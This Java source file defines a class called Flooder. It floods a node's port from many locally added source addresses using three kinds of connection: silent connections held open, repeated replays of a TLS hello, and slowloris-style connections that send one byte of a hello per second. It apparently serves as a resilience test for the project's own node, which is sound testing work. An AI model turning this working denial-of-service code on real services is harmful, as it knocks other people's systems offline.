package io.hearth.cli;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.security.GeneralSecurityException;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;

/**
 * Floods the port of a node from many addresses of one host until it is killed. It opens connections that send nothing, that repeat one recorded TLS hello, and that send one byte of a hello each second. It prints the number of its connections.
 */
final class Flooder {
    private static final int SILENT = 1_000;
    private static final int REPLAYING = 20;
    private static final int SLOW = 100;
    private static final int TOLD_EACH = 1_000;
    private static final long SECOND_NANOS = 1_000_000_000L;

    private final InetSocketAddress target;
    private final List<InetAddress> sources;
    private final byte[] hello;
    private final AtomicLong tried = new AtomicLong(); // all attackers increment it

    private Flooder(InetSocketAddress target, List<InetAddress> sources, byte[] hello) {
        this.target = target;
        this.sources = List.copyOf(sources);
        this.hello = hello;
    }

    /** The use of a connection until the victim ends it. */
    @FunctionalInterface
    private interface Attack {
        void on(Socket socket) throws IOException;
    }

    /** Arguments: address and port of the victim, and the number of addresses to attack from. */
    public static void main(String[] arguments) throws Exception {
        int addresses = Integer.parseInt(arguments[2]);
        List<InetAddress> sources = IntStream.range(0, addresses)
                .mapToObj(i -> "10.77.0." + (100 + i))
                .map(Flooder::own)
                .toList();
        new Flooder(new InetSocketAddress(arguments[0], Integer.parseInt(arguments[1])), sources, hello()).run();
    }

    /** Gives this host one more address. */
    private static InetAddress own(String address) {
        try {
            int code = new ProcessBuilder("ip", "addr", "add", address + "/24", "dev", "eth0")
                    .inheritIO()
                    .start()
                    .waitFor();
            if (code != 0) {
                throw new AssertionError("ip addr add " + address + " ended with " + code);
            }
            return InetAddress.getByName(address);
        } catch (IOException | InterruptedException failed) {
            throw new AssertionError(failed);
        }
    }

    private static byte[] hello() throws GeneralSecurityException, IOException {
        SSLContext context = SSLContext.getInstance("TLSv1.3");
        context.init(null, null, null);
        SSLEngine engine = context.createSSLEngine();
        engine.setUseClientMode(true);
        ByteBuffer record = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
        var _ = engine.wrap(ByteBuffer.allocate(0), record);
        byte[] bytes = new byte[record.flip().remaining()];
        record.get(bytes);
        return bytes;
    }

    private void run() throws InterruptedException {
        Stream<Thread> silent = start(SILENT, SECOND_NANOS, Flooder::readToTheEnd);
        Stream<Thread> replaying = start(REPLAYING, SECOND_NANOS / 50, socket -> {
            socket.getOutputStream().write(hello);
            readToTheEnd(socket);
        });
        Stream<Thread> slow = start(SLOW, SECOND_NANOS / 10, socket -> {
            for (byte each : hello) {
                socket.getOutputStream().write(each);
                LockSupport.parkNanos(SECOND_NANOS);
            }
        });
        for (Thread thread :
                Stream.of(silent, replaying, slow).flatMap(each -> each).toList()) {
            thread.join();
        }
    }

    private Stream<Thread> start(int count, long restNanos, Attack attack) {
        return IntStream.range(0, count)
                .mapToObj(i -> Thread.ofVirtual().start(() -> {
                    while (true) {
                        once(sources.get(i % sources.size()), attack);
                        LockSupport.parkNanos(restNanos);
                    }
                }))
                .toList()
                .stream();
    }

    private void once(InetAddress source, Attack attack) {
        try (var socket = new Socket()) {
            socket.bind(new InetSocketAddress(source, 0));
            socket.connect(target);
            attack.on(socket);
        } catch (IOException _) {
            // the victim ended the connection, as it should
        }
        long count = tried.incrementAndGet();
        if (count % TOLD_EACH == 0) {
            System.out.println("tried " + count);
        }
    }

    private static void readToTheEnd(Socket socket) throws IOException {
        while (socket.getInputStream().read() >= 0) {
            // the answer does not matter
        }
    }
}
